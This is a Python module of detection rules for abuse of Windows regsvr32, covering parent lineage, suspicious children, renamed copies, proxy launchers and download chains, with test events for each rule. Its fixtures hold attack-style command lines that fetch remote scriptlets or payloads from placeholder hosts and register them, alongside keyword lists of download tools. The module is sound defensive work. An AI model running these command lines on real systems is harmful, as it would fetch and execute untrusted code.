"""Rules that read process lineage: regsvr32's parent, its children, regsvr32 started by
regsvr32, and launchers of regsvr32 (process-creation events).
"""
from .. import cmdline, winpath
from ..fields import PROCESS, REGSVR32
from ..registry import actor, any_event, child, relaunch, rule
from ..sigma_spec import BY_REGSVR32, by_parent, ends, not_exportable, spec
from .tables import T, clip


# ---------------------------------------------------------------------------------------
# Tables the checks read. Names are lower-case file names.

SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe"))
# Shells and runtimes that deployment tools, package managers and desktop applications use to
# run regsvr32 every day (Intune, PSAppDeployToolkit, Chocolatey, scoop; Java desktop programs).
RUNTIME_PARENTS = frozenset(("powershell.exe", "pwsh.exe", "powershell_ise.exe", "java.exe",
                             "javaw.exe"))
OFFICE_PARENTS = frozenset((
    "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe", "onenotem.exe",
    "onenoteim.exe", "msaccess.exe", "mspub.exe", "visio.exe", "eqnedt32.exe", "wordpad.exe",
    "wordview.exe"))
# Servers and remote-execution hosts that have no business starting regsvr32
# (Splunk LOLBAS-spawn family, Sigma 8a582fe2 and the "suspicious child of X" rules).
SERVER_PARENTS = frozenset((
    "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe", "services.exe", "svchost.exe",
    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe",
    "sqlservr.exe", "sqlagent.exe", "hh.exe", "msdt.exe", "sdiagnhost.exe", "fodhelper.exe",
    "3cxdesktopapp.exe", "pc-app.exe", "node.exe", "umworkerprocess.exe", "wlsvc.exe",
    "spoolsv.exe", "taskeng.exe", "taskhostw.exe"))
SUSPICIOUS_CHILDREN = frozenset((
    "calc.exe", "cmd.exe", "powershell.exe", "pwsh.exe", "cscript.exe", "wscript.exe",
    "mshta.exe", "rundll32.exe", "net.exe", "net1.exe", "nltest.exe", "whoami.exe", "notepad.exe",
    "reg.exe", "schtasks.exe", "explorer.exe", "werfault.exe", "certutil.exe", "bitsadmin.exe",
    "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "wmic.exe", "curl.exe",
    "ipconfig.exe", "systeminfo.exe", "tasklist.exe", "nslookup.exe", "sc.exe", "at.exe"))
# Where Windows itself keeps regsvr32.exe (Sigma e4a6b256).
REGSVR32_HOMES = tuple(":\\" + home + "\\" for home in (
    "windows\\system32", "windows\\syswow64", "windows\\winsxs", "windows\\softwaredistribution",
    "windows\\systemtemp", "windows\\uus", "windows\\system", "$windows.~bt", "$winreagent"))


def _parent_in(ev, table, what):
    if ev.parent_name in table:
        return "started by %s %s" % (what, ev.parent_image or ev.parent_name)
    return None


@rule("R32-014", "regsvr32 started by a script host",
      actor(PROCESS), risk=55, family="parent_lineage", evidence="lineage",
      lowered_by=("windows", "trusted"),
      techniques=(T, "T1059"),
      sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da",
               "Sentinel bef2bd1b"),
      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch "
                   "files start regsvr32 all day) and PowerShell is R32-042."),
      positives=(
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\wscript.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\explorer.exe"},
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
      sigma=by_parent(SCRIPT_PARENTS))
def script_parent(ev):
    return _parent_in(ev, SCRIPT_PARENTS, "script host")


@rule("R32-015", "regsvr32 started by an Office application",
      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1204.002"),
      sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
      description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, "
                   "Visio or the Equation Editor: a macro or exploit at work."),
      positives=(
        {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
         "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=by_parent(OFFICE_PARENTS))
def office_parent(ev):
    return _parent_in(ev, OFFICE_PARENTS, "Office application")


@rule("R32-016", "regsvr32 started by a server or remote-execution host",
      actor(PROCESS), risk=60, family="parent_lineage", evidence="lineage",
      lowered_by=("windows",),
      techniques=(T, "T1047"),
      sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2",
               "Sigma d52d2e87"),
      description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, "
                   "database or Java server, hh, msdt or fodhelper: remote execution, "
                   "exploitation or a persisted launch rather than an installer."),
      positives=(
        {"CommandLine": "regsvr32.exe /i C:\\x.dll",
         "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"},
        {"CommandLine": "regsvr32 /s C:\\inetpub\\a.dll",
         "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},),
      sigma=by_parent(SERVER_PARENTS))
def server_parent(ev):
    return _parent_in(ev, SERVER_PARENTS, "server process")


@rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
      child(), risk=80, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T, "T1059"), sources=("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"),
      description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, "
                   "net, nltest, whoami, reg, schtasks or explorer: the registered code is "
                   "running commands."),
      positives=(
        {"Image": "C:\\Windows\\System32\\calc.exe",
         "CommandLine": '"C:\\Windows\\System32\\calc.exe" ',
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe"},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      sigma=spec("exact", "process_creation",
                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe",
                                "Image|endswith": ends(SUSPICIOUS_CHILDREN)}},
                 "selection", ""))
def suspicious_child(ev):
    if ev.image_name not in SUSPICIOUS_CHILDREN:
        return None
    return "regsvr32 started %s: %s" % (ev.image_name, clip(ev.command_line or ev.image))


@rule("R32-018", "regsvr32 started a child process",
      child(), risk=50, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L17"),
      description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit "
                   "re-launch): registration code rarely starts programs. The default allowlist "
                   "keeps WerFault crash reporting (-u -p) and wevtutil, as CAR does."),
      positives=(
        {"Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
         "CommandLine": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      negatives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},),
      sigma=spec("exact", "process_creation",
                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe"},
                  "filter_self": {"Image|endswith": "\\regsvr32.exe"}},
                 "selection and not filter_self", ""))
def any_child(ev):
    if ev.image_name in ("", REGSVR32):
        return None
    return "regsvr32 started a child process %s" % (ev.image or ev.image_name)


@rule("R32-019", "Renamed regsvr32",
      actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
      techniques=(T, "T1036.003"),
      sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
      description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, "
                   "where the log has neither (4688), a command line only regsvr32 takes: a "
                   "remote /i: scriptlet or scrobj.dll with /i:) but it runs under another name."),
      positives=(
        {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "Image": None,
         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll"},
        {"Image": "C:\\Users\\Public\\svc.exe",
         "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll",
         "OriginalFileName": "REGSVR32.EXE"},
        {"Image": "C:\\ProgramData\\jabber.exe",
         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll",
         "Description": "Microsoft(C) Register Server"},),
      negatives=(
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "OriginalFileName": "REGSVR32.EXE"},
        {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe",
         "OriginalFileName": "tool.exe"},),
      sigma=spec("approximate", "process_creation",
                 {"selection": [{"OriginalFileName": "REGSVR32.EXE"},
                                {"Description": "Microsoft(C) Register Server"}],
                  "filter_name": {"Image|endswith": "\\regsvr32.exe"}},
                 "selection and not filter_name",
                 "by OriginalFileName or description only; the detector also knows a renamed "
                 "copy by a command line only regsvr32 takes (4688 logs neither)"))
def renamed_binary(ev):
    if not ev.image_name or ev.image_name == REGSVR32:
        return None
    if ev.original_file_name.lower() == REGSVR32:
        evidence = "OriginalFileName %s" % ev.original_file_name
    elif ev.description:
        evidence = "file description '%s'" % ev.description
    else:
        evidence = "its command line is regsvr32's: %s" % clip(ev.command_line, 120)
    return "regsvr32 runs under the name %s (%s)" % (ev.image or ev.image_name, evidence)


@rule("R32-020", "regsvr32.exe running from an unexpected folder",
      actor(PROCESS), risk=70, family="renamed_or_relocated_binary", evidence="identity",
      techniques=(T, "T1036.005"),
      sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c",
               "Sigma 933f0bb5"),
      description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the "
                   "Windows servicing folders: a copy planted next to a payload or a look-alike."),
      positives=(
        {"Image": "C:\\Users\\Public\\regsvr32.exe",
         "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},),
      sigma=spec("exact", "process_creation",
                 {"selection": BY_REGSVR32,
                  "filter_home": {"Image|contains": list(REGSVR32_HOMES)}},
                 "selection and not filter_home", ""))
def unexpected_home(ev):
    # (an image without its folder, or a relative one, is an unknown folder, not an unexpected one)
    image = ev.image.lower().replace("/", "\\")
    if ev.image_name != REGSVR32 or not winpath.is_absolute(image) or image.startswith(REGSVR32_HOMES, 1):
        return None
    return "regsvr32.exe runs from %s, not from System32 or SysWOW64" % ev.image
# Launchers that run another program from their command line (LOLBAS proxy execution), and the
# word in the command line that makes them do it.
PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolhandler"),
           ("rundll32.exe", "routethecall"), ("rundll32.exe", "openurl"),
           ("wmic.exe", "call create"), ("forfiles.exe", "/c"), ("pcalua.exe", "-a"),
           ("mshta.exe", "script:"), ("conhost.exe", "--headless"), ("explorer.exe", "regsvr32"),
           ("scriptrunner.exe", "-appvscript"), ("syncappvpublishingserver.exe", "regsvr32"))


@rule("R32-042", "regsvr32 started by PowerShell or an application runtime",
      actor(PROCESS), risk=25, family="parent_lineage", evidence="lineage",
      lowered_by=("windows", "trusted", "own tree", "agent"),
      techniques=(T, "T1059.001"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062"),
      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment "
                   "tools (Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop "
                   "applications start regsvr32 this way; with a payload-like module it raises "
                   "the score."),
      positives=(
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="Software deployment and package managers.",
      sigma=by_parent(RUNTIME_PARENTS))
def runtime_parent(ev):
    return _parent_in(ev, RUNTIME_PARENTS, "PowerShell or application runtime")


@rule("R32-044", "regsvr32 started by regsvr32 for another module (second stage)",
      relaunch(), risk=70, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T,), sources=("L17", "Veramine"),
      description=("regsvr32 started by regsvr32 with modules other than its parent's: the "
                   "registered code launched a second stage. The 64-to-32-bit re-launch passes "
                   "the same modules and stays quiet; without the parent's command line nothing "
                   "is said."),
      positives=(
        {"CommandLine": 'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Ntetq\\kmlysgkrktii.hwz"',
         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe",
         "ParentCommandLine": "regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll"},),
      negatives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      sigma=not_exportable("compares the parsed modules of the child with those of the parent's command line"))
def second_stage(ev):
    if not ev.parent_command_line:
        return None
    parent = cmdline.parse(ev.parent_command_line, ev.parent_name, ev.cwd)
    # by file name: the re-launch may write the same module with another path form
    mine = set(m.name or m.lower for m in ev.invocation.modules)
    if not mine or mine <= set(m.name or m.lower for m in parent.modules):
        return None
    return "regsvr32 started by regsvr32 for another module: %s (parent: %s)" % (
        clip(", ".join(sorted(mine)), 200), clip(ev.parent_command_line, 200))


@rule("R32-046", "regsvr32 launched through a proxy program",
      any_event(PROCESS), risk=65, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1218.011", "T1202"), sources=("LOLBAS", "Sigma 8a582fe2"),
      description=("rundll32 ShellExec_RunDLL or FileProtocolHandler, wmic process call create, "
                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS "
                   "launchers asked to start regsvr32: indirect execution to break the process "
                   "tree."),
      positives=(
        {"Image": "C:\\Windows\\System32\\rundll32.exe",
         "CommandLine": '"C:\\Windows\\System32\\rundll32.exe" SHELL32 ShellExec_RunDLL regsvr32.exe -s "C:\\ProgramData\\Wwhm\\vsinzf.log"'},
        {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "CommandLine": "wmic process call create \"regsvr32 /s C:\\Users\\Public\\x.dll\""},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\rundll32.exe",
         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl regsvr32"},
        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},),
      sigma=not_exportable("pairs each launcher with the word that makes it launch, which one field match cannot"))
def proxy_launch(ev):
    if ev.is_regsvr32:
        return None
    low = ev.command_line.lower()
    at = low.find("regsvr32")
    if at < 0:
        return None
    for name, word in PROXIES:
        if ev.image_name == name and word in low:
            return "%s is asked to start regsvr32: %s" % (ev.image_name, clip(ev.command_line[at:], 200))
    return None


# What a launcher's command line does before it runs regsvr32 in the same line: fetch the payload,
# or wait (ping a host, timeout) so that sandboxes give up.
_CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget"),
                ("urlcache", "downloads with certutil -urlcache"),
                ("bitsadmin", "downloads with bitsadmin"), ("start-bitstransfer", "downloads with BITS"),
                ("invoke-webrequest", "downloads with Invoke-WebRequest"),
                ("downloadfile", "downloads with WebClient.DownloadFile"),
                ("ping ", "waits with ping"), ("timeout ", "waits with timeout"))


@rule("R32-051", "regsvr32 at the end of a download or delay chain",
      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1105", "T1497.003"), sources=("L14", "LOLBAS"),
      description=("The parent's command line fetches a file (curl, wget, certutil -urlcache, "
                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and "
                   "then runs regsvr32 in the same line: the LNK and script chains of Qakbot, "
                   "Pikabot and IcedID. Installers download and register in separate steps."),
      positives=(
        {"CommandLine": "regsvr32 -n -i .asu.mid",
         "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
        {"CommandLine": "regsvr32 C:\\ProgramData\\x.ocx",
         "ParentCommandLine": "cmd /c curl -o C:\\ProgramData\\x.ocx https://example.com/a && regsvr32 C:\\ProgramData\\x.ocx"},),
      negatives=(
        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},),
      sigma=not_exportable("reads the parent's command line for a download or delay step before regsvr32"))
def download_chain(ev):
    low = ev.parent_command_line.lower()
    at = low.find("regsvr32")
    if at < 0:
        return None
    before = low[:at]
    for word, what in _CHAIN_STEPS:
        if word in before and ("&" in before or ";" in before or "|" in before):
            return "the parent's command line %s, then runs regsvr32: %s" % (
                what, clip(ev.parent_command_line, 200))
    return None
